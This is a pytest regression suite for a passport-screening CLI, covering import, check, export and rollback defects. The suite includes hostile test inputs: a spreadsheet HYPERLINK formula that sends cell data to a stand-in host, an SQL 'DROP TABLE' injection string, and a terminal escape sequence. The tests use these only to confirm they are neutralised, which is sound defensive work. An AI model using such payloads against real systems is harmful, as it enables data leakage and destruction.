"""Issue #17, the lists defects: each test is a case that failed on main before the fix.

Every case runs the real CLI (``screening.cli.main``) against a real SQLite store; the
few that must show a process does not hang or blow up run it as a subprocess.
"""

from __future__ import annotations

import csv
import io
import json
import os
from pathlib import Path

import pytest

from screening.errors import ExitCode, ListStoreError
from screening.lists import open_store
from screening.lists.importer import import_feed
from tests.cli_helpers import console, run
from tests.lists_helpers import BASE_ROWS, HEADER, write_feed

KEY_A = "a" * 32
KEY_B = "b" * 32


@pytest.fixture
def url(tmp_path: Path) -> str:
    """A store whose active version (v1) holds BASE_ROWS: 5 records and 2 series."""
    store_url = f"sqlite:///{tmp_path}/lists.db"
    with open_store(store_url) as store:
        import_feed(store, write_feed(tmp_path / "base.csv", BASE_ROWS))
    return store_url


def status(url: str) -> dict:
    with open_store(url, create=False) as store:
        active = store.active_version()
        return {"active": active.id if active else None, "versions": len(store.versions())}


def lookup(capsys: pytest.CaptureFixture[str], url: str, state: str, number: str) -> str:
    code, out, _ = run(capsys, "lists", "check", "--json", "--lists", url, state, number)
    assert code == ExitCode.ok
    return json.loads(out)["status"]


# --- 1. a wrong key at check time -----------------------------------------------------


def test_a_wrong_key_is_refused_at_check_time(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "a.key").write_text(KEY_A)
    (tmp_path / "b.key").write_text(KEY_B)
    url = f"sqlite:///{tmp_path}/hashed.db"
    feed = write_feed(tmp_path / "feed.csv", BASE_ROWS)
    assert (
        run(
            capsys,
            "lists",
            "import",
            str(feed),
            "--lists",
            url,
            "--hashed",
            "--key-file",
            str(tmp_path / "a.key"),
        )[0]
        == ExitCode.ok
    )
    args = ("lists", "check", "--lists", url, "KGZ", "AN1234567", "--key-file")
    code, out, err = run(capsys, *args, str(tmp_path / "b.key"))
    assert code == ExitCode.list_store and out == "" and "key does not match" in err
    assert run(capsys, *args, str(tmp_path / "a.key"))[1].startswith("HIT")


def test_scan_with_a_wrong_key_is_not_checked_never_clear(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, settings
) -> None:
    from screening.lists.screen import screen_document

    url = f"sqlite:///{tmp_path}/hashed.db"
    with open_store(url) as store:
        import_feed(store, write_feed(tmp_path / "f.csv", BASE_ROWS), key=KEY_A.encode())
        monkeypatch.setenv("SCREENING_LISTS_KEY", KEY_B)
        wrong = screen_document(store, "KGZ", "P", "AN1234567", settings)
        monkeypatch.setenv("SCREENING_LISTS_KEY", KEY_A)
        right = screen_document(store, "KGZ", "P", "AN1234567", settings)
    assert wrong.status == "not_checked"
    assert [f.code for f in wrong.findings] == ["LIST_NOT_CHECKED"]
    assert "key does not match" in wrong.findings[0].message
    assert right.status == "hit"


# --- 5. a mostly-bad full feed must not replace the list -------------------------------


def test_a_feed_of_rejects_does_not_replace_the_list(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = tmp_path / "mostly-bad.csv"
    with open(feed, "w", encoding="utf-8") as fh:
        fh.write(HEADER + "\n" + "KGZ,P,AB1111111,lost,,,\n")
        fh.writelines(f"QQQ,P,AB{i:07d},lost,,,\n" for i in range(99_999))
    code, out, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.import_rejected and out == ""
    assert "99,999 of 100,000 rows were rejected" in err and "row 3: issuing_state" in err
    assert status(url)["active"] == 1
    assert lookup(capsys, url, "KGZ", "AN1234567") == "hit"  # listed before: still listed


def test_one_good_and_one_malformed_row_do_not_replace_a_list(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = write_feed(tmp_path / "two.csv", ["KGZ,P,AB1111111,lost,,,", "KGZ,P,AB2"])
    code, _, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.import_rejected and "1 of 2 rows were rejected" in err
    assert status(url)["active"] == 1


def test_a_shrinking_full_feed_needs_allow_shrink_and_can_be_rolled_back(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = write_feed(tmp_path / "one.csv", ["KGZ,P,AB1111111,lost,,,"])
    code, _, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.import_rejected and "shrink from 7 to 1 entries" in err
    assert status(url)["active"] == 1
    assert run(capsys, "lists", "import", str(feed), "--lists", url, "--allow-shrink")[0] == 0
    assert lookup(capsys, url, "KGZ", "AN1234567") == "none"
    code, out, _ = run(capsys, "lists", "rollback", "--lists", url, "--json")
    assert code == ExitCode.ok
    rolled = json.loads(out)
    assert rolled["active"]["id"] == 1 and rolled["rolled_back"]["state"] == "rolled_back"
    assert lookup(capsys, url, "KGZ", "AN1234567") == "hit"
    assert lookup(capsys, url, "KGZ", "AB1111111") == "none"
    code, _, err = run(capsys, "lists", "rollback", "--lists", url)
    assert code == ExitCode.list_store and "no earlier version" in err


def test_max_rejects_lets_a_known_bad_share_through(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = [*BASE_ROWS, "KGZ,P,AB1111111,lost,,,", "QQQ,P,AB2,lost,,,"]
    feed = write_feed(tmp_path / "mixed.csv", rows)
    assert run(capsys, "lists", "import", str(feed), "--lists", url)[0] == 6
    code, out, _ = run(
        capsys, "lists", "import", str(feed), "--lists", url, "--json", "--max-rejects", "20%"
    )
    assert code == ExitCode.ok and json.loads(out)["rejected"] == 1
    assert (
        run(capsys, "lists", "import", str(feed), "--lists", url, "--max-rejects", "150%")[0]
        == ExitCode.bad_args
    )


# --- 6. the rejects file ----------------------------------------------------------------


def test_an_unwritable_rejects_file_fails_before_anything_changes(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = write_feed(tmp_path / "next.csv", [*BASE_ROWS, "KGZ,P,AB1111111,lost,,,"])
    code, _, err = run(
        capsys,
        "lists",
        "import",
        str(feed),
        "--lists",
        url,
        "--rejects",
        str(tmp_path / "no-such-folder" / "rejects.csv"),
    )
    assert code == ExitCode.output_file and "cannot write the rejects file" in err
    assert "Traceback" not in err
    assert status(url) == {"active": 1, "versions": 1}


def test_a_refused_feed_still_writes_its_rejects_and_shows_the_reasons(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rejects = tmp_path / "rejects.csv"
    feed = write_feed(tmp_path / "bad.csv", [*BASE_ROWS, "QQQ,P,AB2,lost,,,"])
    code, _, err = run(
        capsys, "lists", "import", str(feed), "--lists", url, "--strict", "--rejects", str(rejects)
    )
    assert code == ExitCode.import_rejected
    assert "row 9: issuing_state 'QQQ' is not an ICAO code" in err
    rows = list(csv.reader(rejects.open(encoding="utf-8")))
    assert rows == [["row", "reason"], ["9", "issuing_state 'QQQ' is not an ICAO code"]]
    assert status(url)["active"] == 1


# --- 7. the import lock through a symbolic link -----------------------------------------


def test_a_symbolic_link_to_the_store_takes_the_same_lock(url: str, tmp_path: Path) -> None:
    link = tmp_path / "link.db"
    link.symlink_to(tmp_path / "lists.db")
    with open_store(url) as first, open_store(f"sqlite:///{link}") as second:
        session = first.begin_import(
            "full", source="x", feed_name="x", mode="clear", fingerprint=None
        )
        with pytest.raises(ListStoreError, match="another import is running"):
            import_feed(second, write_feed(tmp_path / "f.csv", BASE_ROWS))
        session.abort("test over")


# --- 9. unbounded reads ------------------------------------------------------------------


def test_importing_a_fifo_is_refused_at_once(url: str, tmp_path: Path) -> None:
    fifo = tmp_path / "feed.csv"
    os.mkfifo(fifo)
    done = console("lists", "import", str(fifo), "--lists", url, timeout=60)
    assert done.returncode == ExitCode.input_file
    assert b"not a regular file" in done.stderr


def test_importing_dev_zero_is_refused(url: str) -> None:
    done = console("lists", "import", "/dev/zero", "--lists", url, "--format", "csv", timeout=60)
    assert done.returncode == ExitCode.input_file and b"Traceback" not in done.stderr


def test_a_feed_without_line_ends_is_refused_after_a_bounded_read(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    feed = tmp_path / "one-line.csv"
    with open(feed, "wb") as fh:
        fh.write(b"A" * (64 << 20))
    code, _, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.import_rejected and "no line end" in err and len(err) < 500


def test_a_huge_rejected_value_is_not_echoed(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    good = [f"KGZ,P,AB{i:07d},lost,,," for i in range(150)]  # 1 reject in 151: accepted
    feed = write_feed(tmp_path / "huge.csv", [*good, f"KGZ,P,{'9' * 10_000_000},lost,,,"])
    code, out, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.ok
    assert len(out) + len(err) < 2000 and "(10,000,000 characters) must be 1-24" in out


# --- 10. tracebacks and answers that should have been errors ----------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("deep.json", "[" + "[" * 100_000 + "]" * 100_000 + "]"),
        ("deep.jsonl", '{"a":' * 100_000 + "1" + "}" * 100_000 + "\n"),
    ],
)
def test_deeply_nested_json_is_a_clear_refusal(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str, text: str
) -> None:
    feed = tmp_path / name
    feed.write_text(text, encoding="utf-8")
    code, _, err = run(capsys, "lists", "import", str(feed), "--lists", url)
    assert code == ExitCode.import_rejected and "nested too deeply" in err
    assert status(url)["active"] == 1


@pytest.mark.parametrize(
    ("state", "number"),
    [
        ("TJK", "1" * 100_000),
        ("ZZZ", "AN1234567"),  # no ICAO code
        ("KGZ", "\u0410N1234567"),  # Cyrillic A
        ("KGZ", ""),
        ("KGZ", "AN 12\x1b[2J"),
    ],
)
def test_a_query_no_list_can_hold_is_an_error(
    url: str, capsys: pytest.CaptureFixture[str], state: str, number: str
) -> None:
    code, out, err = run(capsys, "lists", "check", "--lists", url, state, number)
    assert code == ExitCode.bad_args and out == ""
    assert "Traceback" not in err and "\x1b" not in err and len(err) < 300


def test_stdin_queries_answer_every_line_whatever_comes_before(
    url: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    queries = (
        b"KGZ "
        + b"5" * 5000
        + b"\n"
        + b"\x00\xff\xfe binary \x80\n"
        + b"B" * 100_000
        + b"\n"
        + b"ZZZ AN1234567\n"
        + b"KGZ AN1234567\n"
    )
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(queries)))
    code, out, _ = run(capsys, "lists", "check", "--json", "--lists", url, "-")
    answers = [json.loads(line) for line in out.splitlines()]
    assert code == ExitCode.ok
    assert [a["status"] for a in answers] == ["error", "error", "error", "error", "hit"]
    assert [a.get("line") for a in answers[:4]] == [1, 2, 3, 4]


@pytest.mark.parametrize("target", ["/dev/full", "no-such-folder/out.csv"])
def test_export_failures_are_clear_errors(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], target: str
) -> None:
    path = target if target.startswith("/") else str(tmp_path / target)
    code, _, err = run(capsys, "lists", "export", path, "--lists", url)
    assert code == ExitCode.output_file and "cannot write the export" in err


def test_repeated_and_conflicting_records_are_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path}/lists.db"
    rows = [
        *BASE_ROWS,
        "KGZ,P,AN1234567,lost,,,",
        "KGZ,P,AN1234567,stolen,,,",
        "KAZ,I,N05123456,revoked,,,",
    ]
    feed = write_feed(tmp_path / "dup.csv", rows)
    code, out, _ = run(capsys, "lists", "import", str(feed), "--lists", url, "--json")
    report = json.loads(out)
    assert code == ExitCode.ok
    assert (report["repeated"], report["conflicting"]) == (2, 1)
    assert report["repeated_examples"] == ["KAZ I N05123456", "KGZ P AN1234567"]
    _, out, _ = run(capsys, "lists", "status", "--lists", url)
    assert "listed more than once, 1 of them with conflicting statuses" in out


def test_repeats_inside_a_delta_are_reported_and_the_last_one_counts(
    url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    delta = write_feed(
        tmp_path / "delta.csv",
        ["KGZ,P,AB5555555,lost,,,,add", "KGZ,P,AB5555555,stolen,,,,add"],
        header=HEADER + ",action",
    )
    code, out, _ = run(capsys, "lists", "import", str(delta), "--delta", "--lists", url, "--json")
    assert code == ExitCode.ok
    report = json.loads(out)
    assert (report["repeated"], report["conflicting"]) == (1, 1)
    _, out, _ = run(capsys, "lists", "check", "--json", "--lists", url, "KGZ", "AB5555555")
    matches = json.loads(out)["matches"]
    assert [m["record"]["status"] for m in matches] == ["stolen"]


# --- 4. spreadsheet formulas ------------------------------------------------------------


def test_export_neutralises_spreadsheet_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = f"sqlite:///{tmp_path}/lists.db"
    header = "issuing_state,document_type,document_number,status,reference,source"
    rows = [
        'KGZ,P,AN1234567,lost,"=HYPERLINK(""http://x/?""&A1)",@SUM(1+1)',
        "KGZ,P,AN1234568,lost,+1,-2",
        "KGZ,P,AN1234569,lost,ref-1,KG-MVD",
    ]
    feed = write_feed(tmp_path / "formulas.csv", rows, header=header)
    assert run(capsys, "lists", "import", str(feed), "--lists", url)[0] == ExitCode.ok
    out = tmp_path / "export.csv"
    assert run(capsys, "lists", "export", str(out), "--lists", url)[0] == ExitCode.ok
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://x/?"&A1)' in cells and "'@SUM(1+1)" in cells
    assert "ref-1" in cells and "KG-MVD" in cells  # ordinary values untouched


def test_sql_in_a_feed_is_plain_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = f"sqlite:///{tmp_path}/lists.db"
    header = "issuing_state,document_type,document_number,status,reference"
    injection = "x'); DROP TABLE versions; --"
    feed = write_feed(tmp_path / "sql.csv", [f"KGZ,P,AN1234567,lost,{injection}"], header=header)
    assert run(capsys, "lists", "import", str(feed), "--lists", url)[0] == ExitCode.ok
    code, out, _ = run(capsys, "lists", "check", "--json", "--lists", url, "KGZ", "AN1234567")
    assert code == ExitCode.ok
    assert json.loads(out)["matches"][0]["record"]["reference"] == injection
    assert status(url) == {"active": 1, "versions": 1}
